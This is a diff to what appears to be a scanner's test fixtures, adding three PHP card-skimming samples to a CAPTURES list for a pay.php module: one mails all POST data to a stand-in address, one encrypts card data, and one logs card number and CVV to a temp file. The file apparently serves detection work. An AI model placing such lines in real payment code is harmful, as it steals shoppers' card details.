@@ -118,6 +118,9 @@ export const BACK_DOORS: readonly Sample[] = [
 ];
 
 export const CAPTURES: readonly Sample[] = [
+  ['by mail, everything', 'pay.php', MODULE, put("@mail('d@drop.test', 'o', print_r($_POST, true));")],
+  ['a variable, encrypted', 'pay.php', MODULE, put('openssl_public_encrypt(json_encode($card), $o, $k);')],
+  ['a variable to a log', 'pay.php', MODULE, put("error_log($ccNumber . '|' . $cvv, 3, '/tmp/x');")],
   [
     'to a file',
     'pay.php',
